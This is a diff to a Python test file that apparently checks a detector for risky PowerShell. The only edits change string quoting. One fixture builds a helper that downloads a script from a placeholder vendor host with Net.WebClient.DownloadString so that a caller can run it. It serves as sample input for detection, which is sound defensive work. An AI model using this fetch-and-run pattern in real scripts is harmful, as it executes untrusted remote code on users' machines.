@@ -24,7 +24,7 @@ def test_a_powershell_helper_called_without_its_defaulted_parameter_returns_the_
         "function Read-Extension {\n"
         "    param([string]$Channel = 'stable')\n"
         "    $client = New-Object Net.WebClient\n"
-        "    $client.DownloadString(\"https://ext.vendor-cdn.invalid/$Channel/ext.ps1\")\n"
+        '    $client.DownloadString("https://ext.vendor-cdn.invalid/$Channel/ext.ps1")\n'
         "}\n"
         "function Start-Tool {\n"
         "    $code = Read-Extension\n"
@@ -39,7 +39,7 @@ def test_a_powershell_helper_with_defaults_reading_a_local_file_stays_quiet(tmp_
     script = (
         "function Read-Template {\n"
         "    param([string]$Name = 'default')\n"
-        "    Get-Content -Raw (Join-Path $PSScriptRoot \"$Name.txt\")\n"
+        '    Get-Content -Raw (Join-Path $PSScriptRoot "$Name.txt")\n'
         "}\n"
         "$text = Read-Template\n"
         "Write-Output $text\n"
